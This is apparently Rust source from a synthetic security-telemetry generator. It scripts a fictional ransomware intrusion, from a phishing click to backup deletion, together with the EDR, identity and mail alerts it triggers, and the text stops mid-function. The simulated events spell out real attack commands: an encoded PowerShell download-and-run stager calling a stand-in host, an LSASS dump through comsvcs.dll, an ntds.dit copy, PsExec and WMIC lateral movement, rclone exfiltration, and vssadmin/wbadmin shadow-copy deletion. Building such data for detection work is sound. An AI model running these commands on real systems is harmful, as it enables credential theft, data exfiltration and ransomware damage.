//! The intrusion: from a mail with a link to deleted backups, in the last five days.
//!
//! A clerk in accounts payable follows the link of an "overdue invoice" (`lark-ws-014`); a macro starts an encoded
//! PowerShell, which leaves a DLL behind that calls home. At night somebody dumps the credentials of a helpdesk administrator who had
//! left a session open, walks on to the file server, the domain controller and the backup server, copies the finance share away, and, the
//! night before the tenant's present, deletes the shadow copies. The ransomware itself is stopped.

use super::entities::*;
use super::events::*;
use super::random::{DAY, HOUR, MINUTE, SECOND};
use super::world::{Image, Process, Roots, file, midnight, weekend};
use super::{ACTOR_TOOL, AD_DOMAIN};
use base64::Engine;
use std::sync::Arc;

const LURE: &str = "https://files.brightmere-logistics.example/i/7741/Invoice_7741.html?id=84c1&r=1";
const STAGE: &str = "https://cdn.larksync-update.example/u/update.dat";
const HOME: &str = "cdn.larksync-update.example";
const HOME_IP: &str = "198.51.100.77";
const LURE_IP: &str = "198.51.100.23";
const DROP: &str = "drop.quillstore.example";
const DROP_IP: &str = "198.51.100.140";
const PROXY_IP: &str = "198.51.100.201";
const NEST: &str = "C:\\ProgramData\\LarkSync";

/// What `powershell -EncodedCommand` takes: base64 of UTF-16.
pub(super) fn encoded(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The first working day of the last five.
fn first_day(now: i64) -> i64 {
    let mut day = midnight(now - 5 * DAY) + DAY;
    while weekend(day) {
        day += DAY;
    }
    day
}

/// An alert of the endpoint's sensor about a process.
fn about(process: &Arc<Process>, severity: Severity, category: &'static str, title: &'static str, description: &'static str) -> Draft {
    Draft {
        description,
        evidence: vec![Entity::Process(process.facts()), Entity::File(process.image.facts.clone()), Entity::User(process.user.clone())],
        ..Draft::on(process, process.created + SECOND, EDR, severity, category, title)
    }
}

/// Where the intruder stands, as the story goes on.
struct Intrusion<'s, 'w> {
    script: &'s mut Script<'w>,
    implant: Arc<Image>,
    clerk: Arc<UserFacts>,
    admin: Arc<UserFacts>,
}

/// Writes the intrusion into the script.
pub(super) fn write(script: &mut Script<'_>) {
    let world = script.world;
    let hosts = ["lark-ws-014", "lark-fs-01", "lark-dc-01", "lark-bkp-01"].map(|h| world.host(h));
    let [Some(desk), Some(files), Some(domain), Some(backup)] = hosts else { return };
    script.incident(
        "Multi-stage incident involving initial access, credential access and ransomware activity on multiple endpoints",
        "A phishing mail led to an implant on lark-ws-014, stolen administrator credentials, lateral movement to three servers, exfiltration \
         of the finance share and deletion of backups.",
    );
    let mut intrusion = Intrusion {
        implant: Image::stray(&format!("{NEST}\\sync64.dll"), 311_296),
        clerk: world.person("priya.raghunathan"),
        admin: world.person("adm.tove"),
        script,
    };
    let fraction = intrusion.script.random.range(0, SECOND);
    let day = first_day(world.now) + fraction;
    let last_night = midnight(world.now) - HOUR + fraction;
    let macro_host = intrusion.lure(desk, day + 9 * HOUR + 11 * MINUTE);
    let beacon = intrusion.foothold(&macro_host, day + 9 * HOUR + 19 * MINUTE);
    intrusion.discovery(&beacon, desk.0, day + 9 * HOUR + 52 * MINUTE);
    intrusion.mailbox(day + 13 * HOUR + 27 * MINUTE);
    let elevated = intrusion.credentials(&beacon, desk, day + 22 * HOUR + 14 * MINUTE);
    let on_files = intrusion.psexec(&elevated, files, day + 22 * HOUR + 41 * MINUTE);
    intrusion.domain_controller(&elevated, domain, day + 23 * HOUR + 6 * MINUTE);
    let on_backup = intrusion.remote_desktop(desk, backup, day + 23 * HOUR + 33 * MINUTE);
    intrusion.exfiltration(&on_files, last_night - 2 * HOUR);
    intrusion.precursor(&on_files, &on_backup, last_night);
    intrusion.beaconing(&beacon, &on_files);
    let tags = &["Storm-9417", "Ransomware"];
    script.end(Outcome { status: IncidentStatus::Active, verdict: None, owner: None, comment: None, tags });
    if let Some(incident) = script.incidents.last_mut() {
        incident.system_tags = vec!["Critical asset".to_owned()];
    }
}

impl Intrusion<'_, '_> {
    fn own(&self, process: &Arc<Process>, title: &'static str) -> Draft {
        Draft {
            techniques: &["T1218.011", "T1071.001"],
            threat: ACTOR_TOOL,
            verdict: Verdict::Malicious,
            evidence: vec![
                Entity::Process(process.facts()),
                Entity::File(self.implant.facts.clone()),
                Entity::Ip(HOME_IP.into()),
                Entity::Url(format!("https://{HOME}/").into()),
                Entity::User(process.user.clone()),
            ],
            ..about(
                process,
                Severity::High,
                "Malware",
                title,
                "A DLL of the Brinehook family was loaded by rundll32.exe and contacted its server.",
            )
        }
    }

    /// The session of a day at the desk; then mail, click, download, document.
    fn lure(&mut self, (machine, roots): (&Arc<Machine>, &Roots), at: i64) -> Arc<Process> {
        let script = &mut *self.script;
        let logon = 0x3e_7a11;
        let userinit = Process::child(
            &roots.winlogon,
            &mut script.random,
            script.world.image("userinit.exe"),
            at - 42 * MINUTE,
            "C:\\Windows\\system32\\userinit.exe",
        );
        let userinit = script.add(userinit.run_as(&self.clerk, logon, 2));
        script.happened.logons.push(Logon {
            at: at - 42 * MINUTE - SECOND,
            process: roots.lsass.clone(),
            action: "LogonSuccess",
            kind: "Interactive",
            user: self.clerk.clone(),
            logon,
            admin: false,
            remote: None,
            protocol: "Negotiate",
            failure: "",
        });
        let explorer = script.spawn(&userinit, "explorer.exe", at - 42 * MINUTE + SECOND, "C:\\Windows\\Explorer.EXE");
        let outlook = script.spawn(
            &explorer,
            "OUTLOOK.EXE",
            at - 40 * MINUTE,
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ",
        );
        let mail = MailFacts {
            network_message_id: script.random.guid(),
            internet_message_id: "<7741.20261@mail.brightmere-logistics.example>".into(),
            received: at - 9 * MINUTE,
            sender: "invoices@brightmere-logistics.example".into(),
            sender_name: "Brightmere Logistics".into(),
            sender_ip: LURE_IP.into(),
            recipient: self.clerk.clone(),
            subject: "Overdue: invoice 7741 \"final notice\"".into(),
            delivery_action: "Delivered",
            delivery_location: "Inbox/folder",
            threats: "Phish",
            urls: vec![LURE.into()],
            attachments: 0,
        };
        let colleagues = ["ben.hargreaves", "fatima.elsayed", "marta.kowalczyk"];
        for (n, colleague) in colleagues.iter().enumerate() {
            let facts = MailFacts {
                network_message_id: script.random.guid(),
                recipient: script.world.person(colleague),
                received: mail.received + n as i64 * 2 * SECOND,
                delivery_action: if n == 0 { "Delivered" } else { "Junked" },
                delivery_location: if n == 0 { "Inbox/folder" } else { "Junk folder" },
                ..mail.clone()
            };
            let moved = (n == 0).then_some(("Quarantine", at + 5 * HOUR));
            script.happened.mails.push(Mail { facts, direction: "Inbound", language: "en", files: Vec::new(), moved });
        }
        let moved = Some(("Quarantine", at + 5 * HOUR));
        script.happened.mails.push(Mail { facts: mail.clone(), direction: "Inbound", language: "en", files: Vec::new(), moved });
        script.happened.clicks.push(Click {
            at,
            user: self.clerk.clone(),
            url: LURE.into(),
            message: mail.network_message_id.clone(),
            action: "ClickAllowed",
            workload: "Email",
            ip: machine.external_ip.clone(),
        });
        let edge = script.spawn(
            &outlook,
            "msedge.exe",
            at + 2 * SECOND,
            format!("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument {LURE}"),
        );
        script.connect(&edge, at + 3 * SECOND, LURE_IP, 443, LURE);
        let downloads = "C:\\Users\\priya.raghunathan\\Downloads";
        for (name, size, after) in [("Invoice_7741.html", 684_201, 4), ("Invoice_7741.zip", 412_664, 7), ("Invoice_7741.docm", 466_944, 52)]
        {
            let writer = if name.ends_with("docm") { &explorer } else { &edge };
            let origin = if name.ends_with("docm") { "" } else { LURE };
            script.write(writer, at + after * SECOND, &Arc::new(file(name, downloads, size, "", "")), origin);
        }
        let word = script.spawn(
            &explorer,
            "WINWORD.EXE",
            at + MINUTE,
            format!("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{downloads}\\Invoice_7741.docm\" /o \"\""),
        );
        script.load(&word, at + MINUTE + 3 * SECOND, script.world.image("VBE7.DLL"));
        let (recipient, url) = (self.clerk.clone(), Entity::Url(LURE.into()));
        script.alert(Draft {
            techniques: &["T1566.002"],
            verdict: Verdict::Malicious,
            user: Some(recipient.clone()),
            description: "A user clicked a link that was found to be malicious after the click.",
            evidence: vec![Entity::Mail(mail.clone()), url.clone(), Entity::Mailbox(recipient.clone()), Entity::User(recipient.clone())],
            ..Draft::new(at + 4 * HOUR, OFFICE, Severity::High, "InitialAccess", "A potentially malicious URL click was detected")
        });
        script.alert(Draft {
            techniques: &["T1566.002"],
            remediation: Remediation::Remediated,
            user: Some(recipient.clone()),
            evidence: vec![Entity::Mail(mail), url, Entity::Mailbox(recipient)],
            ..Draft::new(
                at + 5 * HOUR,
                OFFICE,
                Severity::Informational,
                "InitialAccess",
                "Email messages containing malicious URL removed after delivery",
            )
        });
        word
    }

    /// Macro, PowerShell, implant, and two ways to come back.
    fn foothold(&mut self, word: &Arc<Process>, at: i64) -> Arc<Process> {
        let script = &mut *self.script;
        let stager = format!(
            "$p='{NEST}';New-Item -ItemType Directory -Force $p|Out-Null;(New-Object Net.WebClient).DownloadFile('{STAGE}',\"$p\\sync64.dll\");Start-Process rundll32 -ArgumentList \"$p\\sync64.dll,Start\""
        );
        let line = format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", encoded(&stager));
        let cmd = script.spawn(word, "cmd.exe", at, format!("cmd.exe /c {line}"));
        let shell = script.spawn(&cmd, "powershell.exe", at + SECOND, line);
        for (n, dll) in ["amsi.dll", "System.Management.Automation.dll", "wininet.dll"].iter().enumerate() {
            script.load(&shell, at + (2 + n as i64) * SECOND, script.world.image(dll));
        }
        script.saw(&shell, at + 3 * SECOND, "PowerShellCommand", r#"{"Command":"New-Object"}"#);
        script.saw(
            &shell,
            at + 3 * SECOND + 5,
            "AmsiScriptDetection",
            r#"{"Description":"Suspicious download and execution","ModuleName":"powershell.exe"}"#,
        );
        script.connect(&shell, at + 4 * SECOND, HOME_IP, 443, STAGE);
        script.write(&shell, at + 6 * SECOND, &self.implant.facts, STAGE);
        let beacon = script.spawn(
            &shell,
            "rundll32.exe",
            at + 8 * SECOND,
            format!("\"C:\\Windows\\system32\\rundll32.exe\" {NEST}\\sync64.dll,Start"),
        );
        script.load(&beacon, at + 8 * SECOND + 12_345, self.implant.clone());
        script.load(&beacon, at + 9 * SECOND, script.world.image("wininet.dll"));
        let run = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
        let value = format!("rundll32.exe {NEST}\\sync64.dll,Start");
        script.set(&beacon, at + 61 * SECOND, run, "LarkSync", &value);
        let task = script.spawn(
            &beacon,
            "schtasks.exe",
            at + 65 * SECOND,
            format!("schtasks /create /f /sc minute /mo 30 /tn \"LarkSync Update\" /tr \"{value}\""),
        );
        script.saw(
            &task,
            at + 66 * SECOND,
            "ScheduledTaskCreated",
            r#"{"TaskName":"\\LarkSync Update","Author":"larkmoor\\priya.raghunathan"}"#,
        );
        let draft = about(
            &cmd,
            Severity::Medium,
            "Execution",
            "Suspicious behavior by Microsoft Word was observed",
            "Word started a command interpreter right after a document with macros was opened.",
        );
        script.alert(Draft {
            techniques: &["T1204.002", "T1059.003"],
            evidence: vec![Entity::Process(word.facts()), Entity::Process(cmd.facts()), Entity::User(cmd.user.clone())],
            ..draft
        });
        let draft = about(
            &shell,
            Severity::Medium,
            "Execution",
            "Suspicious PowerShell command line",
            "An encoded command downloads and starts a file.",
        );
        script.alert(Draft {
            techniques: &["T1059.001", "T1027", "T1105"],
            evidence: vec![
                Entity::Process(shell.facts()),
                Entity::Url(STAGE.into()),
                Entity::Ip(HOME_IP.into()),
                Entity::User(shell.user.clone()),
            ],
            ..draft
        });
        let draft = about(
            &beacon,
            Severity::Medium,
            "Persistence",
            "Anomaly detected in ASEP registry",
            "A process registered a DLL to be started at every logon.",
        );
        script.alert(Draft {
            at: at + 61 * SECOND,
            techniques: &["T1547.001"],
            evidence: vec![
                Entity::Registry {
                    hive: "HKEY_CURRENT_USER",
                    key: run.get(18..).unwrap_or_default().into(),
                    name: "LarkSync".into(),
                    data: value.into(),
                },
                Entity::Process(beacon.facts()),
            ],
            ..draft
        });
        let draft = about(
            &task,
            Severity::Medium,
            "Persistence",
            "Suspicious scheduled task",
            "A task was made that starts a DLL from a folder for data.",
        );
        script.alert(Draft { techniques: &["T1053.005"], ..draft });
        let draft = self.own(&beacon, "'Brinehook' malware was detected in memory");
        self.script.alert(draft);
        let draft = self.own(&beacon, "Possible command-and-control activity");
        self.script.alert(Draft { at: at + 40 * MINUTE, category: "CommandAndControl", ..draft });
        beacon
    }

    fn discovery(&mut self, beacon: &Arc<Process>, desk: &Arc<Machine>, at: i64) {
        let script = &mut *self.script;
        let cmd = script.spawn(
            beacon,
            "cmd.exe",
            at,
            "C:\\Windows\\system32\\cmd.exe /c whoami /all & systeminfo & nltest /dclist: & net group \"Domain Admins\" /domain",
        );
        let mut seen = vec![Entity::Process(cmd.facts())];
        #[rustfmt::skip]
        let steps = [
            ("whoami.exe", "whoami  /all", 1), ("systeminfo.exe", "systeminfo", 3), ("nltest.exe", "nltest  /dclist:", 9),
            ("nltest.exe", "nltest  /domain_trusts /all_trusts", 14), ("net.exe", "net  group \"Domain Admins\" /domain", 21),
            ("net.exe", "net  view \\\\lark-fs-01 /all", 47), ("ipconfig.exe", "ipconfig  /all", 55),
        ];
        for (image, command, after) in steps {
            let tool = script.spawn(&cmd, image, at + after * SECOND, command);
            seen.push(Entity::Process(tool.facts()));
            if image == "net.exe" {
                script.spawn(
                    &tool,
                    "net1.exe",
                    at + after * SECOND + 4_000_000,
                    command.replacen("net ", "C:\\Windows\\system32\\net1 ", 1),
                );
            }
        }
        for (after, query, target) in
            [(9, "AllDomains", "corp.larkmoor.example"), (21, "AllMembersOfGroup", "Domain Admins"), (22, "AllUsers", "")]
        {
            let event = DirectoryEvent {
                at: at + after * SECOND,
                user: self.clerk.clone(),
                machine: desk.clone(),
                action: "SAMR query",
                query,
                target: target.into(),
            };
            script.happened.directory.push(event);
        }
        let draft = about(
            &cmd,
            Severity::Low,
            "Discovery",
            "Suspicious sequence of exploration activities",
            "A process started several tools that list accounts, groups and domain controllers.",
        );
        script.alert(Draft { at: at + MINUTE, techniques: &["T1087.002", "T1482", "T1033"], evidence: seen, ..draft });
        script.alert(Draft {
            user: Some(self.clerk.clone()),
            techniques: &["T1087.002", "T1069.002"],
            description: "An account read the members of sensitive groups, which it had never done.",
            evidence: vec![Entity::User(self.clerk.clone()), Entity::Ip(desk.ip.clone())],
            ..Draft::new(at + 2 * MINUTE, IDENTITY, Severity::Medium, "Discovery", "User and group membership reconnaissance (SAMR)")
        });
    }

    /// The stolen session token, used from elsewhere.
    fn mailbox(&mut self, at: i64) {
        let script = &mut *self.script;
        for (after, failure, risk) in [(0, "Strong authentication is required", 50), (3 * MINUTE, "", 100)] {
            script.happened.sign_ins.push(SignIn {
                at: at + after,
                user: self.clerk.clone(),
                application: "Office 365 Exchange Online",
                cloud: true,
                failure,
                ip: PROXY_IP.into(),
                country: "RO",
                city: "Constanța",
                device: None,
                risk,
            });
        }
        for (after, action, object) in [(6, "New-InboxRule", "RSS"), (7, "MailItemsAccessed", "Inbox"), (11, "MailItemsAccessed", "Inbox")]
        {
            script.happened.cloud.push(CloudEvent {
                at: at + after * MINUTE,
                user: self.clerk.clone(),
                action,
                application: ("Microsoft Exchange Online", 20_893),
                ip: PROXY_IP.into(),
                country: "RO",
                city: "Constanța",
                object: object.into(),
                anonymous: true,
            });
        }
        let evidence = || vec![Entity::User(self.clerk.clone()), Entity::Ip(PROXY_IP.into())];
        script.alert(Draft {
            user: Some(self.clerk.clone()),
            techniques: &["T1078.004"],
            evidence: evidence(),
            ..Draft::new(at + 3 * MINUTE, ENTRA, Severity::Medium, "InitialAccess", "Unfamiliar sign-in properties")
        });
        let mut more = evidence();
        more.extend([Entity::Mailbox(self.clerk.clone()), Entity::Application { id: 20_893, name: "Microsoft Exchange Online" }]);
        script.alert(Draft {
            user: Some(self.clerk.clone()),
            techniques: &["T1564.008"],
            evidence: more,
            ..Draft::new(at + 6 * MINUTE, CLOUD, Severity::Medium, "DefenseEvasion", "Suspicious inbox manipulation rule")
        });
    }

    /// The helpdesk administrator left a session open. Its token gets the intruder to LSASS.
    fn credentials(&mut self, beacon: &Arc<Process>, (machine, roots): (&Arc<Machine>, &Roots), at: i64) -> Arc<Process> {
        let script = &mut *self.script;
        let logon = 0x51_0c2f;
        let (help, from) = (self.admin.clone(), script.world.host("lark-ws-002").map(|(m, _)| (m.name.clone(), m.ip.clone())));
        script.happened.logons.push(Logon {
            at: at - 6 * HOUR,
            process: roots.lsass.clone(),
            action: "LogonSuccess",
            kind: "RemoteInteractive",
            user: help.clone(),
            logon,
            admin: true,
            remote: from,
            protocol: "Negotiate",
            failure: "",
        });
        let shell = Process::child(beacon, &mut script.random, script.world.image("cmd.exe"), at, "C:\\Windows\\system32\\cmd.exe");
        let shell = script.add(shell.run_as(&help, logon, 3).elevated());
        let pid = roots.lsass.pid;
        let dump = script.spawn(
            &shell,
            "rundll32.exe",
            at + 20 * SECOND,
            format!("rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} {NEST}\\ls.dmp full"),
        );
        for (n, dll) in ["comsvcs.dll", "dbghelp.dll", "dbgcore.dll"].iter().enumerate() {
            script.load(&dump, at + 20 * SECOND + 90_000 * (n as i64 + 1), script.world.image(dll));
        }
        script.happened.device.push(DeviceEvent {
            at: at + 21 * SECOND,
            process: dump.clone(),
            action: "OpenProcessApiCall",
            target: Some(roots.lsass.clone()),
            file: None,
            url: "".into(),
            more: r#"{"DesiredAccess":2097151}"#.into(),
        });
        let dumped = Arc::new(file("ls.dmp", NEST, 58_720_256, "", ""));
        script.write(&dump, at + 23 * SECOND, &dumped, "");
        let lsass = Entity::Process(roots.lsass.facts());
        let draft = about(
            &dump,
            Severity::High,
            "CredentialAccess",
            "Suspicious access to LSASS service",
            "A process opened LSASS with full access.",
        );
        script.alert(Draft {
            techniques: &["T1003.001"],
            evidence: vec![Entity::Process(dump.facts()), lsass, Entity::User(help.clone())],
            ..draft
        });
        let draft = about(
            &dump,
            Severity::High,
            "CredentialAccess",
            "Process memory dump",
            "The memory of LSASS was written to a file by way of comsvcs.dll.",
        );
        script.alert(Draft {
            at: at + 23 * SECOND,
            techniques: &["T1003.001", "T1218.011"],
            verdict: Verdict::Malicious,
            evidence: vec![Entity::Process(dump.facts()), Entity::File(dumped), Entity::User(help.clone())],
            ..draft
        });
        script.alert(Draft {
            user: Some(help.clone()),
            techniques: &["T1550.002"],
            description: "An account's credentials were used from a device that it does not belong to.",
            evidence: vec![Entity::User(help), Entity::Ip(machine.ip.clone())],
            ..Draft::new(at + 25 * MINUTE, IDENTITY, Severity::High, "LateralMovement", "Suspected identity theft (pass-the-hash)")
        });
        shell
    }

    /// A logon over the network with the stolen credentials.
    fn arrive(&mut self, from: &Arc<Machine>, roots: &Roots, kind: &'static str, at: i64) -> i64 {
        let logon = self.script.random.range(0x40_0000, 0x90_0000);
        self.script.happened.logons.push(Logon {
            at,
            process: roots.lsass.clone(),
            action: "LogonSuccess",
            kind,
            user: self.admin.clone(),
            logon,
            admin: true,
            remote: Some((from.name.clone(), from.ip.clone())),
            protocol: if kind == "Network" { "NTLM" } else { "Negotiate" },
            failure: "",
        });
        self.script.happened.sign_ins.push(SignIn {
            at: at - SECOND,
            user: self.admin.clone(),
            application: "Active Directory",
            cloud: false,
            failure: "",
            ip: from.ip.clone(),
            country: "",
            city: "",
            device: Some(from.clone()),
            risk: 0,
        });
        logon
    }

    fn psexec(&mut self, shell: &Arc<Process>, (machine, roots): (&Arc<Machine>, &Roots), at: i64) -> Arc<Process> {
        let tool = Image::stray(&format!("{NEST}\\PsExec64.exe"), 833_472);
        self.script.write(shell, at - 2 * MINUTE, &tool.facts, "");
        let command = format!(
            "{NEST}\\PsExec64.exe  \\\\lark-fs-01 -accepteula -s -d -c -f {NEST}\\sync64.dll rundll32.exe C:\\Windows\\sync64.dll,Start"
        );
        let run = Process::child(shell, &mut self.script.random, tool.clone(), at, command);
        let run = self.script.add(run);
        self.script.connect(&run, at + SECOND, &machine.ip, 445, "");
        self.arrive(&shell.machine.clone(), roots, "Network", at + SECOND);
        let script = &mut *self.script;
        let service = Image::stray("C:\\Windows\\PSEXESVC.exe", 388_096);
        script.happened.files.push(FileEvent {
            at: at + 2 * SECOND,
            process: roots.services.root().clone(),
            action: "FileCreated",
            file: service.facts.clone(),
            origin: "".into(),
            previous: "".into(),
            share: Some(("ADMIN$".into(), shell.machine.ip.clone())),
        });
        script.saw(
            &roots.services,
            at + 3 * SECOND,
            "ServiceInstalled",
            r#"{"ServiceName":"PSEXESVC","ServiceAccount":"LocalSystem","ServiceStartType":3}"#,
        );
        let service = Process::child(&roots.services, &mut script.random, service, at + 3 * SECOND, "C:\\Windows\\PSEXESVC.exe");
        let service = script.add(service);
        let copy = Image::stray("C:\\Windows\\sync64.dll", 311_296);
        script.write(&service, at + 4 * SECOND, &copy.facts, "");
        let beacon = script.spawn(&service, "rundll32.exe", at + 5 * SECOND, "\"rundll32.exe\" C:\\Windows\\sync64.dll,Start");
        script.load(&beacon, at + 5 * SECOND + 70_001, copy);
        script.connect(&beacon, at + 8 * SECOND, HOME_IP, 443, HOME);
        let draft = about(
            &service,
            Severity::Medium,
            "LateralMovement",
            "Suspicious remote service creation",
            "PsExec started a program on this device from another one.",
        );
        script.alert(Draft {
            techniques: &["T1569.002", "T1021.002"],
            evidence: vec![
                Entity::Process(service.facts()),
                Entity::Process(beacon.facts()),
                Entity::Ip(shell.machine.ip.clone()),
                Entity::User(self.admin.clone()),
            ],
            ..draft
        });
        let draft = self.own(&beacon, "'Brinehook' malware was detected in memory");
        self.script.alert(draft);
        beacon
    }

    fn domain_controller(&mut self, shell: &Arc<Process>, (machine, roots): (&Arc<Machine>, &Roots), at: i64) {
        let script = &mut *self.script;
        let copy = "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q";
        let line = format!("powershell.exe -NoP -W Hidden -Enc {}", encoded(copy));
        let wmic = script.spawn(shell, "WMIC.exe", at, format!("wmic  /node:lark-dc-01.{AD_DOMAIN} process call create \"{line}\""));
        script.connect(&wmic, at + SECOND, &machine.ip, 135, "");
        let logon = self.arrive(&shell.machine.clone(), roots, "Network", at + SECOND);
        let script = &mut *self.script;
        let provider =
            script.spawn(&roots.svchost, "WmiPrvSE.exe", at + SECOND, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
        let remote = Process::child(&provider, &mut script.random, script.world.image("powershell.exe"), at + 2 * SECOND, line);
        let remote = script.add(remote.run_as(&self.admin, logon, 0).elevated());
        let tool = script.spawn(&remote, "ntdsutil.exe", at + 5 * SECOND, copy);
        let ntds = Arc::new(file("ntds.dit", "C:\\Windows\\Temp\\ifm\\Active Directory", 48_234_496, "", ""));
        script.write(&tool, at + 31 * SECOND, &ntds, "");
        let add = script.spawn(&remote, "net.exe", at + 4 * MINUTE, "net  group \"Backup Operators\" svc_scan /add /domain");
        script.spawn(
            &add,
            "net1.exe",
            at + 4 * MINUTE + 300_000,
            "C:\\Windows\\system32\\net1  group \"Backup Operators\" svc_scan /add /domain",
        );
        script.happened.directory.push(DirectoryEvent {
            at: at + 4 * MINUTE + SECOND,
            user: self.admin.clone(),
            machine: machine.clone(),
            action: "Group Membership changed",
            query: "",
            target: "svc_scan".into(),
        });
        let draft = about(
            &remote,
            Severity::Medium,
            "LateralMovement",
            "Suspicious WMI process creation",
            "A process was started over WMI from another device.",
        );
        script.alert(Draft {
            techniques: &["T1047"],
            evidence: vec![
                Entity::Process(provider.facts()),
                Entity::Process(remote.facts()),
                Entity::Ip(shell.machine.ip.clone()),
                Entity::User(self.admin.clone()),
            ],
            ..draft
        });
        let draft = about(
            &tool,
            Severity::High,
            "CredentialAccess",
            "Possible theft of the NTDS database",
            "ntdsutil made a full copy of the directory's database.",
        );
        let evidence = vec![Entity::Process(tool.facts()), Entity::File(ntds), Entity::User(self.admin.clone())];
        script.alert(Draft { techniques: &["T1003.003"], verdict: Verdict::Malicious, evidence, ..draft });
        let target = script.world.person("svc_scan");
        script.alert(Draft {
            user: Some(self.admin.clone()),
            techniques: &["T1098.007"],
            evidence: vec![Entity::User(self.admin.clone()), Entity::User(target)],
            ..Draft::new(at + 5 * MINUTE, IDENTITY, Severity::Medium, "Persistence", "Suspicious additions to sensitive groups")
        });
    }

    fn remote_desktop(&mut self, desk: (&Arc<Machine>, &Roots), (_, roots): (&Arc<Machine>, &Roots), at: i64) -> Arc<Process> {
        let logon = self.arrive(desk.0, roots, "RemoteInteractive", at);
        let script = &mut *self.script;
        let remote = Some((desk.0.name.clone(), desk.0.ip.clone()));
        let userinit = Process::child(
            &roots.winlogon,
            &mut script.random,
            script.world.image("userinit.exe"),
            at + SECOND,
            "C:\\Windows\\system32\\userinit.exe",
        );
        let userinit = Process { remote, ..userinit.run_as(&self.admin, logon, 4).elevated() };
        let userinit = script.add(userinit);
        let explorer = script.spawn(&userinit, "explorer.exe", at + 2 * SECOND, "C:\\Windows\\Explorer.EXE");
        let shell = script.spawn(&explorer, "cmd.exe", at + 50 * SECOND, "\"C:\\Windows\\system32\\cmd.exe\" ");
        script.spawn(&shell, "whoami.exe", at + 55 * SECOND, "whoami");
        let draft = about(
            &shell,
            Severity::Low,
            "LateralMovement",
            "Suspicious RDP session",
            "An administrator signed in from a device that is not used for administration.",
        );
        script.alert(Draft {
            techniques: &["T1021.001"],
            evidence: vec![Entity::Process(shell.facts()), Entity::Ip(desk.0.ip.clone()), Entity::User(self.admin.clone())],
            ..draft
        });
        shell
    }

    fn exfiltration(&mut self, beacon: &Arc<Process>, at: i64) {
        let script = &mut *self.script;
        let shell = script.spawn(beacon, "cmd.exe", at, "C:\\Windows\\system32\\cmd.exe");
        let packer = script.spawn(
            &shell,
            "7z.exe",
            at + MINUTE,
            format!("\"C:\\Program Files\\7-Zip\\7z.exe\"  a -mx1 -v512m -p\"Wh4le&Song\" {NEST}\\fin.7z \"D:\\Shares\\Finance\\*\" -r"),
        );
        let mut parts = Vec::new();
        for part in 1..=6 {
            let piece = Arc::new(file(&format!("fin.7z.{part:03}"), NEST, 536_870_912, "", ""));
            script.write(&packer, at + MINUTE + part * 70 * SECOND, &piece, "");
            parts.push(piece);
        }
        let tool = Image::stray(&format!("{NEST}\\rclone.exe"), 62_914_560);
        script.write(&shell, at + 9 * MINUTE, &tool.facts, "");
        let send = Process::child(
            &shell,
            &mut script.random,
            tool,
            at + 10 * MINUTE,
            format!("{NEST}\\rclone.exe  copy {NEST} drop:lk --include \"fin.7z.*\" --transfers 8 --no-check-certificate"),
        );
        let send = script.add(send);
        for n in 0..18 {
            script.connect(&send, at + 10 * MINUTE + n * 95 * SECOND, DROP_IP, 443, DROP);
        }
        let draft = about(
            &packer,
            Severity::Low,
            "Collection",
            "Data archived with a password",
            "Many files of a share were packed into an encrypted archive.",
        );
        script.alert(Draft {
            at: at + 8 * MINUTE,
            techniques: &["T1560.001"],
            evidence: [Entity::Process(packer.facts())].into_iter().chain(parts.into_iter().map(Entity::File)).collect(),
            ..draft
        });
        let draft = about(
            &send,
            Severity::High,
            "Exfiltration",
            "Possible data exfiltration with rclone",
            "A tool for copying to cloud storage sent a large amount of data to a rare address.",
        );
        script.alert(Draft {
            at: at + 30 * MINUTE,
            techniques: &["T1567.002"],
            verdict: Verdict::Malicious,
            evidence: vec![
                Entity::Process(send.facts()),
                Entity::File(send.image.facts.clone()),
                Entity::Ip(DROP_IP.into()),
                Entity::Url(format!("https://{DROP}/").into()),
            ],
            ..draft
        });
    }

    fn precursor(&mut self, on_files: &Arc<Process>, on_backup: &Arc<Process>, at: i64) {
        let script = &mut *self.script;
        let mut shells = Vec::new();
        for (n, parent) in [on_files, on_backup].into_iter().enumerate() {
            let at = at + n as i64 * 6 * MINUTE;
            let shell = script.spawn(parent, "cmd.exe", at, "cmd.exe /c \"vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet & bcdedit /set {default} recoveryenabled No\"");
            let delete = script.spawn(&shell, "vssadmin.exe", at + SECOND, "vssadmin  delete shadows /all /quiet");
            script.spawn(&shell, "wbadmin.exe", at + 9 * SECOND, "wbadmin  delete catalog -quiet");
            script.spawn(&shell, "bcdedit.exe", at + 12 * SECOND, "bcdedit  /set {default} recoveryenabled No");
            script.spawn(&shell, "net.exe", at + 15 * SECOND, "net  stop \"Larkmoor Backup Agent\" /y");
            let draft =
                about(&delete, Severity::High, "Impact", "File backups were deleted", "All shadow copies of a server were deleted.");
            script.alert(Draft {
                techniques: &["T1490"],
                verdict: Verdict::Malicious,
                evidence: vec![Entity::Process(shell.facts()), Entity::Process(delete.facts()), Entity::User(delete.user.clone())],
                ..draft
            });
            shells.push(delete);
        }
        let at = at + 11 * MINUTE;
        let locker = Image::stray("C:\\Users\\Public\\brinelock.exe", 1_204_224);
        script.write(on_backup, at, &locker.facts, "");
        let scanner = script.world.host("lark-bkp-01").map(|(_, roots)| roots.services.clone());
        if let Some(services) = scanner {
            let scanner = script.spawn(
                &services,
                "MsMpEng.exe",
                at - 2 * HOUR,
                "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26090.9-0\\MsMpEng.exe\"",
            );
            script.detected(&scanner, at + 2 * SECOND, &locker.facts, "Ransom:Win64/Brinelock.A", true);
        }
        script.alert(Draft {
            at: at + 2 * SECOND,
            source: AV,
            techniques: &["T1486"],
            threat: "Brinelock",
            verdict: Verdict::Malicious,
            remediation: Remediation::Prevented,
            evidence: vec![Entity::File(locker.facts.clone())],
            ..about(
                on_backup,
